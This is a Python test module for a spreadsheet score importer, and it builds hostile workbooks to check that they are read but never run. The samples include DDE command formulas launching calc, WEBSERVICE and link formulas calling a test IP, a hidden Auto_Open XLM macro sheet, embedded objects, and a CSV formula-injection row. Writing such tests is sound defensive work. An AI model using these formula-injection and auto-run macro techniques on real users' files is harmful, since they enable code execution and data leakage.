"""Workbooks that act: formulas that reach out, macros, objects, connections. All is read, nothing runs."""

import io

import openpyxl
import xlsxwriter

from cchc_metrics.schema import SCORES
from tests.workbooks import builders as made
from tests.workbooks.hostile.builders import Case, FileCase, saved, score, scores
from tests.workbooks.hostile.packages import MAIN, OFFICE, PLAIN, ROW, plain, relations, repacked

MACRO_SHEET = "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet"
ACCEPTED = [{"value": 7.5}]


def with_parts(**parts: str | bytes) -> bytes:
    """A sound score workbook with parts beside it; a double underscore stands for a slash, one before the ending."""
    return repacked(
        scores(score(7.5)), {name.replace("__", "/").replace("_dot_", "."): content for name, content in parts.items()}
    )


def formula(text: str, value: object = 7.5, **parts: object) -> bytes:
    """A score that a formula gives, its result stored."""
    buffer = io.BytesIO()
    book = xlsxwriter.Workbook(buffer, {"in_memory": True})
    page = book.add_worksheet("Nhập liệu")
    page.write_row(0, 0, SCORES.headers)
    for place, cell in enumerate(score(None, **parts)):
        if cell is not None:
            page.write(1, place, cell)
    page.write_formula(1, 7, text, None, value)
    book.close()
    return buffer.getvalue()


def outside() -> bytes:
    """Names and links that point at files of other machines."""
    book = openpyxl.load_workbook(io.BytesIO(scores(score(7.5))))
    book.defined_names["x"] = openpyxl.workbook.defined_name.DefinedName(
        "x", attr_text="'\\\\198.51.100.1\\share\\[a.xlsx]S'!$A$1"
    )
    book.worksheets[0]["L2"].hyperlink = "file://198.51.100.1/share/a.xlsx"
    return saved(book)


def with_macro_sheet() -> bytes:
    """An XLM macro sheet among the sheets, said to be run at opening."""
    book = (
        f'<workbook xmlns="{MAIN}" xmlns:r="{OFFICE}"><sheets><sheet name="T" sheetId="1" r:id="rId1"/>'
        '<sheet name="Macro1" sheetId="2" state="veryHidden" r:id="rId2"/></sheets><definedNames>'
        '<definedName name="_xlnm.Auto_Open" hidden="1">Macro1!$A$1</definedName></definedNames></workbook>'
    )
    rels = relations(
        ("rId1", "worksheet", "worksheets/sheet1.xml", ""), ("rId2", MACRO_SHEET, "macrosheets/sheet1.xml", "")
    )
    rows = '<row r="1"><c r="A1"><f>EXEC("calc.exe")</f><v>0</v></c></row>'
    macro = f'<macrosheet xmlns="{MAIN}"><sheetData>{rows}</sheetData></macrosheet>'
    return made.raw_xlsx(
        ROW, extra={"xl/workbook.xml": book, "xl/_rels/workbook.xml.rels": rels, "xl/macrosheets/sheet1.xml": macro}
    )


ACTIVE = [
    Case("a score by DDE", lambda: formula("=cmd|'/c calc'!A0"), {}, ACCEPTED),
    Case("a score that fetches a page", lambda: formula('=WEBSERVICE("http://198.51.100.1/"&A2)'), {}, ACCEPTED),
    Case("a score that is a link", lambda: formula('=HYPERLINK("http://198.51.100.1/",7.5)'), {}, ACCEPTED),
    Case("a score from another file", lambda: formula("='[1]Trang 1'!A1"), {}, ACCEPTED),
    Case("a formula that gives another formula as text", lambda: formula('="=1+1"', "=1+1"), {"not_a_number": "H2"}),
    Case(
        "a note that looks like a formula",
        lambda: made.xlsx([list(SCORES.headers), score(7.5, note='=HYPERLINK("http://198.51.100.1";"x")')]),
        {},
        ACCEPTED,
    ),
    Case("names and links to other machines", outside, {}, ACCEPTED),
    Case(
        "a project of macros",
        lambda: with_parts(xl__vbaProject_dot_bin=made.compound({"VBA": b"x"})),
        {},
        ACCEPTED,
        file="tep.xlsm",
    ),
    Case(
        "an embedded object",
        lambda: with_parts(xl__embeddings__oleObject1_dot_bin=made.compound({"\x01Ole10Native": b"MZ"})),
        {},
        ACCEPTED,
    ),
    Case(
        "a control of ActiveX",
        lambda: with_parts(xl__activeX__activeX1_dot_bin=b"\xd0\xcf\x11\xe0", xl__activeX__activeX1_dot_xml="<ax/>"),
        {},
        ACCEPTED,
    ),
    Case(
        "a connection to a database",
        lambda: with_parts(
            xl__connections_dot_xml=f'<connections xmlns="{MAIN}"><connection id="1" refreshOnLoad="1" type="4"><webPr url="http://198.51.100.1/"/></connection></connections>'
        ),
        {},
        ACCEPTED,
    ),
    Case(
        "a ribbon that calls out", lambda: with_parts(customUI__customUI_dot_xml='<customUI onLoad="x"/>'), {}, ACCEPTED
    ),
    FileCase("a macro sheet that runs at opening", with_macro_sheet, ("is_macro_sheet",)),
    FileCase(
        "macros under the name of a plain workbook",
        lambda: repacked(plain(), {"xl/vbaProject.bin": b"x"}),
        cells=PLAIN,
        look=lambda b: b.file_type,
        seen="xlsm",
    ),
    FileCase(
        "a csv of formulas",
        lambda: b"a,b\n=cmd|'/c calc'!A0,@SUM(1)\n",
        file="bang.csv",
        cells=[("a", "b"), ("=cmd|'/c calc'!A0", "@SUM(1)")],
    ),
]
